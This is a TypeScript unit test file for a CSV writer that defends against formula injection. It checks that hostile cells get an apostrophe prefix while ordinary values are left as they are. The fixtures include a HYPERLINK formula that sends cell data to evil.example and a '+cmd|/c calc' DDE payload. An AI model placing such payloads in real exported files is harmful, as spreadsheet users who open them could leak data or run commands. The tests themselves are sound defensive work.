/** CSV cells: quoted as RFC 4180 says, and never a formula a spreadsheet would run. */
import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from './csv.ts';

describe('csvField', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', `"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`],
    ['+cmd|/c calc', "'+cmd|/c calc"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['+86 139-1234 5678', "'+86 139-1234 5678"],
  ])('neutralises %j', (value, cell) => {
    expect(csvField(value)).toBe(cell);
  });

  it.each([
    [-118.62, '-118.62'],
    ['-12.5', '-12.5'],
    ['+8613912345678', '+8613912345678'],
    ['-1e-7', '-1e-7'],
    [0, '0'],
    ['张三', '张三'],
    ['a=b', 'a=b'],
  ])('leaves %j as it is', (value, cell) => {
    expect(csvField(value)).toBe(cell);
  });

  it('quotes delimiters, quotes and line breaks, and writes objects as JSON', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"\n')).toBe('"say ""hi""\n"');
    expect(csvField({ a: 1 })).toBe('"{""a"":1}"');
    expect(csvField(null)).toBe('');
    expect(csvLine(['=1', -1, 'x'])).toBe("'=1,-1,x\r\n");
  });
});
